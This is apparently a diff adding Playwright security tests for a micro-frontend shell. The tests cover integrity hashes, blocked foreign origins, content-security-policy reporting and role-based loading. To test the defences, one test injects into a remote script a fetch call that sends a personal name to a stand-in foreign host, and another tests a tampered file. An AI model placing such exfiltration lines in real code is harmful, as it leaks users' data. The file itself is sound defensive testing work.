@@ -1,0 +1,192 @@
+/** Only the code that was published, from where it may come; and whatever goes wrong is told with the remote that owns it. */
+import type { Page } from '@playwright/test';
+import { plantar, publicar } from '../../support/remote-faults';
+import {
+  archivoDe,
+  leerDeRemoto,
+  leerRegistro,
+  PAGINAS,
+  punteroDe,
+  servirRegistro,
+} from '../../support/remotes';
+import { expect, test } from '../../support/test';
+
+interface Informe {
+  tipo: string;
+  remoto: string;
+  mensaje: string;
+}
+
+/** What the page sends to the host's endpoint. */
+function informesDe(page: Page): Informe[] {
+  const sent: Informe[] = [];
+  page.on('request', (request) => {
+    if (new URL(request.url()).pathname === '/errores') sent.push(request.postDataJSON());
+  });
+  return sent;
+}
+
+const heading = (page: Page, name: string) => page.getByRole('heading', { level: 1, name, exact: true });
+const menu = (page: Page, name: string) =>
+  page.getByRole('navigation', { name: 'Menú principal' }).getByRole('link', { name, exact: true });
+
+test('cada archivo publicado tiene su huella en el registro', async () => {
+  const { remotes } = await leerRegistro();
+  for (const [name, { preload, integrity = {} }] of Object.entries(remotes)) {
+    const pages = Object.keys(integrity).filter((file) => /-page-.*\.js$/.test(file));
+    expect(pages.length, name).toBeGreaterThan(0);
+    for (const file of ['mf-manifest.json', ...preload])
+      expect(integrity[file], `${name} ${file}`).toMatch(/^sha384-/);
+  }
+});
+
+test('un archivo que no es el publicado no se ejecuta, se informa, y lo demás sigue', async ({
+  como,
+  quejas,
+}) => {
+  test.slow();
+  const page = await como('Admin', '/inicio');
+  const sent = informesDe(page);
+  const pointer = await punteroDe('ventas');
+  const entry = pointer.preload.find((file) => file.startsWith('remoteEntry')) ?? '';
+  const list =
+    Object.keys(pointer.integrity ?? {}).find((file) => /assets\/ordenes-page-.*\.js$/.test(file)) ?? '';
+  for (const file of ['mf-manifest.json', entry, list]) {
+    const original = await leerDeRemoto('ventas', pointer, file);
+    // A manifest takes a space; a script says that it ran.
+    const body = file.endsWith('.json') ? `${original} ` : `${original};window.intruso = true;`;
+    await page.route(archivoDe('ventas', file), (route) =>
+      route.fulfill({ body, contentType: file.endsWith('.json') ? 'application/json' : 'text/javascript' }),
+    );
+    sent.length = 0;
+    await page.goto('/orden');
+    await expect(heading(page, 'No se pudo abrir Ventas'), file).toBeVisible();
+    await page.getByText('Detalles técnicos').click();
+    await expect(page.getByText(/no es el archivo que se publicó/)).toContainText(file);
+    expect(await page.evaluate(() => 'intruso' in window), file).toBe(false);
+    await expect
+      .poll(() => sent.map(({ remoto, mensaje }) => `${remoto} ${mensaje}`).join(), file)
+      .toMatch(/ventas .*no es el archivo que se publicó/);
+    await menu(page, 'Empresas').click();
+    await expect(heading(page, 'Empresas')).toBeVisible();
+    await menu(page, 'Pedidos').click();
+    await expect(heading(page, 'No se pudo abrir Ventas')).toBeVisible();
+    await page.unrouteAll();
+    await page.getByRole('button', { name: 'Reintentar' }).click();
+    await expect(heading(page, PAGINAS.ventas.h1)).toBeVisible();
+  }
+  quejas.length = 0;
+});
+
+test('de un origen que el servidor no admite no se pide nada', async ({ como, quejas }) => {
+  const page = await como('Admin', '/inicio');
+  const sent = informesDe(page);
+  const foreign: string[] = [];
+  page.on('request', ({ url }) => {
+    if (url().startsWith('https://otro.example')) foreign.push(url());
+  });
+  await servirRegistro(page, ({ remotes }) => {
+    for (const name of ['ventas', 'reportes']) {
+      const pointer = remotes[name];
+      if (!pointer) continue;
+      if (name === 'ventas') pointer.entry = 'https://otro.example/remotes/ventas/b/mf-manifest.json';
+      else pointer.preload = ['https://otro.example/x.js'];
+    }
+  });
+  await page.goto('/orden');
+  await expect(heading(page, 'No se pudo abrir Ventas')).toBeVisible();
+  await menu(page, 'Reportes').click();
+  await expect(heading(page, 'No se pudo abrir Reportes')).toBeVisible();
+  await expect.poll(() => sent.map(({ remoto }) => remoto).sort()).toEqual(['reportes', 'ventas']);
+  expect(sent[0]?.mensaje).toMatch(/otro\.example.* no viene de un origen permitido/);
+  await menu(page, 'Empresas').click();
+  await expect(heading(page, 'Empresas')).toBeVisible();
+  expect(foreign).toEqual([]);
+  quejas.length = 0;
+});
+
+test('una violación de la política de seguridad se informa con el remoto de donde viene', async ({
+  como,
+  quejas,
+}) => {
+  const page = await como('Admin', '/inicio');
+  const sent = informesDe(page);
+  const pointer = await punteroDe('operaciones');
+  const entry = pointer.preload.find((file) => file.startsWith('remoteEntry')) ?? '';
+  const original = await leerDeRemoto('operaciones', pointer, entry);
+  await publicar(
+    page,
+    'operaciones',
+    entry,
+    `${original};fetch('https://otro.example/x?nombre=Ana').catch(() => {});`,
+  );
+  await page.goto('/proveedores');
+  await expect(heading(page, 'Proveedores')).toBeVisible();
+  await expect.poll(() => sent).toMatchObject([{ tipo: 'csp', remoto: 'operaciones' }]);
+  expect(sent[0]?.mensaje).toMatch(/^connect-src: https:\/\/otro\.example/);
+  expect(JSON.stringify(sent)).not.toContain('Ana');
+  quejas.length = 0;
+});
+
+test('un remoto incompatible se informa antes de abrirse, con nombre y versiones en el panel técnico', async ({
+  como,
+  quejas,
+}) => {
+  const page = await como('Admin', '/inicio');
+  await plantar(page, 'reportes', 'pide otra versión mayor');
+  await page.goto('/reportes');
+  await expect(heading(page, 'No se pudo abrir Reportes')).toBeVisible();
+  await menu(page, 'Pedidos').click();
+  await expect(heading(page, PAGINAS.ventas.h1)).toBeVisible();
+
+  await page.getByRole('button', { name: 'Panel técnico' }).press('Enter');
+  const panel = page.getByRole('dialog', { name: 'Panel técnico' });
+  const row = (name: string) => panel.getByRole('row').filter({ hasText: name });
+  const { build, descriptor } = await punteroDe('reportes');
+  await expect(row('Reportes')).toContainText('falló');
+  await expect(row('Reportes')).toContainText(build);
+  await expect(row('Reportes')).toContainText(
+    new RegExp(
+      `reportes ${descriptor.version} es incompatible.*react: pide \\^18\\.2\\.0, el shell ofrece 19\\.`,
+    ),
+  );
+  await expect(row('Ventas')).toContainText(/abierta.*\d+ ms/);
+  await expect(row('Operaciones')).toContainText('sin abrir');
+  await expect(panel).toContainText(/Proveedor\s*hilvan \d/);
+  await panel.getByText('Bibliotecas compartidas').click();
+  await expect(panel).toContainText('@hilvan/ui');
+  await page.keyboard.press('Escape');
+  await expect(panel).toBeHidden();
+  await expect(page.getByRole('button', { name: 'Panel técnico' })).toBeFocused();
+  quejas.length = 0;
+});
+
+test('de lo que un rol no puede abrir no se pide ni un archivo; lo que puede, se adelanta al acercarse', async ({
+  como,
+}) => {
+  const page = await como('Visor', '/inicio');
+  const asked: string[] = [];
+  page.on('request', (request) => {
+    if (request.url().includes('/remotes/')) asked.push(request.url());
+  });
+  await menu(page, 'Inventario').hover();
+  await menu(page, 'Inventario').focus();
+  await menu(page, 'Inventario').click();
+  await page.getByRole('button', { name: 'Aceptar' }).click();
+  await expect(page).toHaveURL(/\/inicio$/);
+  await page.goto('/reporte/ventas');
+  await page.getByRole('button', { name: 'Aceptar' }).click();
+  await expect(heading(page, 'Inicio')).toBeVisible();
+  expect(asked).toEqual([]);
+  await expect(page.getByRole('button', { name: 'Panel técnico' })).toBeHidden();
+
+  const list = page.waitForRequest(/\/remotes\/ventas\/.*ordenes-page/);
+  await menu(page, 'Pedidos').focus();
+  await list;
+  await page.waitForLoadState('networkidle');
+  const ahead = asked.length;
+  expect(asked.every((url) => url.includes('/remotes/ventas/'))).toBe(true);
+  await menu(page, 'Pedidos').press('Enter');
+  await expect(heading(page, PAGINAS.ventas.h1)).toBeVisible();
+  expect(asked.length, 'nothing more to fetch').toBe(ahead);
+});
